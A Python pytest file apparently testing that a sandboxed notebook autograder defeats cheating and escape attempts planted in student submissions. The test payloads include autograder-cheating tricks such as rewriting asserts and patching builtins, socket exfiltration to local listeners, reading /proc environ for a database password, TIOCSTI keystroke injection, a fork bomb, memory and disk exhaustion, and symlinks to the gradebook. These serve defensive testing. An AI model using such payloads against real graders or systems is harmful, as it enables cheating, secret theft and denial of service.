"""A cohort that tries (issue 20): each attack through ``grade`` ends refused or scoring zero.

One batch of module 01 submissions, each with one attack in an answer cell, is graded once
with ``--jobs 2`` as root would (the grader's environment holds a database password); each
test then checks one learner: the score the gradebook holds, the flags, what the kernel
managed (its own printout in the autograded notebook), and the feedback page.
"""

from __future__ import annotations

import copy
import importlib.util
import os
import shutil
import socket
import time
from pathlib import Path

import nbformat
import pytest

from kit.course.coursedir import Course, open_course
from kit.course.feedback import write_feedback
from kit.course.grade import FLAG_REFUSED, Status, grade_assignment, load_flags
from kit.course.gradebook import task_scores
from kit.course.sandbox import landlock_available

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")]

ASSIGNMENT = "01-redirects"
AUTO = {"map_completed": 3.0, "true_statements": 2.0, "retired_decided": 2.0, "reasons": 1.0,
        "chains_and_loops": 3.0}
NOTHING = dict.fromkeys(AUTO, 0.0)
SECRET = "S3CRET-DB-PASSWORD"
TOKEN = "SMUGGLED-7f3a"
SURVIVOR = f"crosstalk-survivor-{os.getpid()}"
_CONFTEST = importlib.util.spec_from_file_location("_course_conftest",
                                                   Path(__file__).with_name("conftest.py"))
_conftest = importlib.util.module_from_spec(_CONFTEST)
_CONFTEST.loader.exec_module(_conftest)
CELL_TIMEOUT = _conftest.TEST_LIMITS["cell_timeout"]  # the course template's per-cell limit
LINUX = pytest.mark.skipif(not landlock_available(), reason="needs Linux with Landlock")


def grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def with_code(notebook: nbformat.NotebookNode, code: str, answer: str = "chains_answer"
              ) -> nbformat.NotebookNode:
    """``code`` put at the top of the answer cell ``answer`` (a cell learners edit), or at
    its end when ``answer`` ends with ``+``."""
    for cell in notebook.cells:
        if grade_id(cell) == answer.rstrip("+"):
            cell.source = (cell.source + "\n" + code if answer.endswith("+")
                           else code + "\n" + cell.source)
    return notebook


TRANSFORMER = '''
def _rewrite(lines):
    if any("assert" in line for line in lines):
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_post.append(_rewrite)
'''

PATCHES = '''
import builtins
builtins.isinstance = lambda *args: True
builtins.len = lambda *args: 3
builtins.sorted = lambda *args, **kwargs: []
builtins.true_statements = {"A", "D", "F"}  # globals the hidden tests read
builtins.reasons = {"A", "C", "E"}
OLD_PAGES = []
def audit_map(*args, **kwargs):
    import pandas as pd
    return pd.DataFrame(columns=["subject", "check", "technical"])
'''

ALWAYS_EQUAL = '''
class Anything(set):
    def __eq__(self, other):
        return True
    __hash__ = set.__hash__
    def __len__(self):
        return 3
true_statements = Anything({"A", "B", "C"})
def find_chains_and_loops(redirects):
    return Anything(), Anything()
'''


def exfiltrate(udp_port: int, unix_path: str) -> str:
    return f'''
import socket
tried = {{}}
for name, family, kind, address in [
        ("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp_port})),
        ("unix", socket.AF_UNIX, socket.SOCK_STREAM, {unix_path!r})]:
    try:
        s = socket.socket(family, kind)
        s.connect(address); s.send(b"hidden tests: {TOKEN}")
        tried[name] = "SENT"
    except OSError as error:
        tried[name] = type(error).__name__
print("exfiltration", tried)
'''


ENVIRON = f'''
import glob, os
found = []
for path in [f"/proc/{{os.getppid()}}/environ", *glob.glob("/proc/*/environ")]:
    try:
        if b"{SECRET}" in open(path, "rb").read():
            found.append(path)
    except OSError:
        pass
print("environ", found)
'''

HANDLES = f'''
import os
wrote = []
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{{fd}}")
    except OSError:
        continue
    # stdin/stdout/stderr and any file handle (the kernel's own sockets are left alone)
    if int(fd) <= 2 or target.startswith("/"):
        try:
            os.write(int(fd), b"{TOKEN} written into an inherited handle\\n"); wrote.append(target)
        except OSError:
            pass
print("wrote", wrote)
'''

TIOCSTI = '''
import fcntl, os, termios
typed = []
for target in ("/dev/tty", 0, 1, 2):
    try:
        fd = os.open(target, os.O_RDWR) if isinstance(target, str) else target
        fcntl.ioctl(fd, termios.TIOCSTI, b"x"); typed.append(target)
    except OSError:
        pass
print("typed", typed)
'''

FORK_BOMB = '''
import os, signal, time
children = []
for _ in range(200):
    try:
        pid = os.fork()
        if pid == 0:
            time.sleep(60); os._exit(0)
        children.append(pid)
    except OSError:
        break
print("forks", len(children))
for pid in children:
    os.kill(pid, signal.SIGKILL); os.waitpid(pid, 0)
'''

MEMORY_CHILDREN = '''
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(450 * 1024 * 1024)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(3)
        except MemoryError:
            os._exit(3)
        os._exit(0)
    children.append(pid)
print("children", [os.waitpid(pid, 0)[1] for pid in children])
'''

SURVIVORS = f'''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {SURVIVOR}"],
                 start_new_session=True)
'''

DISK = '''
written = 0
try:
    with open("fill.bin", "wb") as handle:
        for _ in range(1000):
            handle.write(b"x" * 1024 * 1024); handle.flush(); written += 1
except OSError as error:
    print("disk full after", written, "MB:", error.strerror)
'''

CHATTR = '''
import subprocess
open("locked.txt", "w").write("x")
done = subprocess.run(["chattr", "+i", "locked.txt", "."], capture_output=True)
print("chattr", done.returncode)
'''

SMUGGLE = f'''
def find_chains_and_loops(redirects):
    raise AssertionError("Traceback In[3], line 1: {TOKEN} " + str(redirects.to_dict()))
print("AssertionError: {TOKEN}")
'''


def _blank(sol, rel):
    return copy.deepcopy(rel)


def _solution(sol, rel):
    return copy.deepcopy(sol)


ATTACKS = {
    # learner: (base, code, answer cell)
    "alice": (_solution, "", "chains_answer"),
    "tina": (_blank, TRANSFORMER, "chains_answer"),
    "pat": (_blank, PATCHES, "chains_answer"),
    "eve": (_solution, ALWAYS_EQUAL, "chains_answer+"),
    "uma": (_solution, None, "chains_answer"),  # exfiltration, filled in by the fixture
    "ravi": (_solution, ENVIRON, "chains_answer"),
    "hank": (_solution, HANDLES, "chains_answer"),
    "tess": (_solution, TIOCSTI, "chains_answer"),
    "fred": (_solution, FORK_BOMB, "chains_answer"),
    "mona": (_solution, MEMORY_CHILDREN, "chains_answer"),
    "sid": (_solution, SURVIVORS, "chains_answer"),
    "dina": (_solution, DISK, "chains_answer"),
    "chad": (_solution, CHATTR, "chains_answer"),
    "sam": (_solution, SMUGGLE, "chains_answer+"),
}


@pytest.fixture(scope="module")
def graded(course_template: Path, tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("attacks") / "course"
    shutil.copytree(course_template, folder, symlinks=True)
    config = folder / "nbgrader_config.py"  # a busy CI machine: no attack may end by timeout
    text = config.read_text(encoding="utf-8")
    limit = f"c.SandboxedExecute.timeout = {CELL_TIMEOUT} "
    assert limit in text, "the template's cell limit is not TEST_LIMITS['cell_timeout']"
    config.write_text(text.replace(limit, "c.SandboxedExecute.timeout = 90 "), encoding="utf-8")
    course = open_course(folder)
    sol = nbformat.read(course.source / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    rel = nbformat.read(course.folder("release") / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", 4)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    unix_path = str(folder.parent / "listen.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    unix.listen(5)
    unix.setblocking(False)
    for learner, (base, code, cell) in ATTACKS.items():
        code = exfiltrate(udp.getsockname()[1], unix_path) if code is None else code
        notebook = with_code(base(sol, rel), code, cell) if code else base(sol, rel)
        target = course.folder("submitted") / learner / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        target.parent.mkdir(parents=True)
        nbformat.write(notebook, target)
    # symlinks: to the gradebook beside a real notebook, and the notebook itself a link
    linked = course.folder("submitted") / "lina" / ASSIGNMENT
    linked.mkdir(parents=True)
    nbformat.write(sol, linked / f"{ASSIGNMENT}.ipynb")
    (linked / "data.csv").symlink_to(folder / "gradebook.db")
    copied = course.folder("submitted") / "cole" / ASSIGNMENT
    copied.mkdir(parents=True)
    (copied / f"{ASSIGNMENT}.ipynb").symlink_to(course.source / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    before = os.environ.get("CROSSTALK_GRADEBOOK_URL")
    os.environ["CROSSTALK_GRADEBOOK_URL"] = f"postgresql://grader:{SECRET}@db/grades"
    try:
        run = grade_assignment(course, ASSIGNMENT, jobs=2)
    finally:
        if before is None:
            os.environ.pop("CROSSTALK_GRADEBOOK_URL", None)
        else:
            os.environ["CROSSTALK_GRADEBOOK_URL"] = before
    write_feedback(course, ASSIGNMENT)
    received = []
    with pytest.raises(BlockingIOError):
        while True:
            received.append(udp.recv(1000))
    with pytest.raises(BlockingIOError):
        received.append(unix.accept())
    return course, run, received


def auto_scores(course: Course, learner: str) -> dict[str, float]:
    scores = task_scores(course.db_url, course.course_id, ASSIGNMENT)
    rows = scores[scores["learner"] == learner]
    return {row.task: row.auto_score for row in rows.itertuples() if row.task in AUTO}


def printed(course: Course, learner: str) -> str:
    path = course.folder("autograded") / learner / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    return "".join(str(o.get("text", "")) for c in notebook.cells for o in c.get("outputs", []))


def flags(course: Course, learner: str) -> str:
    return str(load_flags(course, ASSIGNMENT).get(learner, []))


def test_the_honest_solution_still_gets_every_point(graded) -> None:
    course, _, _ = graded
    assert auto_scores(course, "alice") == AUTO
    assert "alice" not in load_flags(course, ASSIGNMENT)


def test_an_input_transformer_cannot_rewrite_the_tests(graded) -> None:
    course, _, _ = graded
    assert auto_scores(course, "tina") == NOTHING


def test_patched_builtins_and_planted_globals_change_nothing(graded) -> None:
    course, _, _ = graded
    assert auto_scores(course, "pat") == NOTHING


def test_an_answer_equal_to_everything_scores_zero_with_a_reason(graded) -> None:
    course, _, _ = graded
    assert auto_scores(course, "eve")["chains_and_loops"] == 0.0
    page = (course.folder("feedback") / "eve" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "plain data" in page


@LINUX
def test_udp_and_unix_sockets_carry_nothing_out(graded) -> None:
    course, _, received = graded
    assert received == []
    assert "'udp': 'SENT'" not in printed(course, "uma")
    assert "'unix': 'SENT'" not in printed(course, "uma")
    assert "socket" in flags(course, "uma") and FLAG_REFUSED in flags(course, "uma")


def test_symlinked_submissions_are_refused(graded) -> None:
    _, run, _ = graded
    for learner in ("lina", "cole"):
        outcome = next(o for o in run.outcomes if o.learner == learner)
        assert outcome.status == Status.REJECTED and "symbolic link" in outcome.reason


@LINUX
def test_the_graders_environment_is_out_of_reach(graded) -> None:
    course, _, _ = graded
    text = printed(course, "ravi")
    assert "environ []" in text and SECRET not in text
    assert auto_scores(course, "ravi") == AUTO


def test_inherited_handles_are_closed(graded) -> None:
    course, _, _ = graded
    logs = "".join(p.read_text(errors="replace")
                   for p in course.folder("grading").glob("worker-*.log"))
    assert TOKEN not in logs


@LINUX
def test_no_keystrokes_reach_a_terminal(graded) -> None:
    course, _, _ = graded
    assert "typed []" in printed(course, "tess")


def _capped(course: Course, learner: str, flag: str) -> None:
    if any("cgroup" in item for o in load_run_outcomes(course) for item in o.not_enforced):
        pytest.skip("no writable cgroup on this machine")
    assert flag in flags(course, learner)


def load_run_outcomes(course: Course):
    from kit.course.grade import load_run

    return load_run(course, ASSIGNMENT).outcomes


def test_a_fork_bomb_is_capped(graded) -> None:
    course, _, _ = graded
    _capped(course, "fred", "too many processes")
    forks = int(printed(course, "fred").split("forks ")[1].split()[0])
    assert forks < 200


def test_memory_through_children_is_capped(graded) -> None:
    course, _, _ = graded
    if any("cgroup" in item for o in load_run_outcomes(course) for item in o.not_enforced):
        pytest.skip("no writable cgroup on this machine")
    text = printed(course, "mona")
    statuses = [int(x) for x in text.split("children [")[1].split("]")[0].split(",")]
    # 4 x 450 MB against a 1536 MB cap: not every child can hold its block
    assert statuses.count(0) < 4, "1.8 GB held through child processes"


def test_no_process_survives_grading(graded) -> None:
    course, _, _ = graded
    _capped(course, "sid", "left processes running")
    time.sleep(0.5)
    alive = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and SURVIVOR in (proc / "cmdline").read_bytes().decode(
                    "latin-1"):
                alive.append(proc.name)
        except OSError:
            continue
    assert not alive


def test_the_work_folder_cannot_fill_the_disk(graded) -> None:
    course, _, _ = graded
    text = printed(course, "dina")
    if os.geteuid() != 0:
        pytest.skip("the tmpfs size limit needs root")
    assert "disk full after" in text
    assert int(text.split("disk full after ")[1].split()[0]) <= 200


def test_chattr_cannot_pin_the_work_folder(graded) -> None:
    course, _, _ = graded
    if os.geteuid() != 0:
        pytest.skip("chattr +i needs root")
    assert "chattr 0" not in printed(course, "chad")
    assert not list(Path("/tmp").glob("crosstalk-kernel-*/locked.txt"))


def test_feedback_shows_nothing_the_kernel_printed_or_raised(graded) -> None:
    course, _, _ = graded
    page = (course.folder("feedback") / "sam" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert TOKEN not in page
    assert auto_scores(course, "sam")["chains_and_loops"] == 0.0
    for page in course.folder("feedback").rglob("*.html"):
        assert TOKEN not in page.read_text()
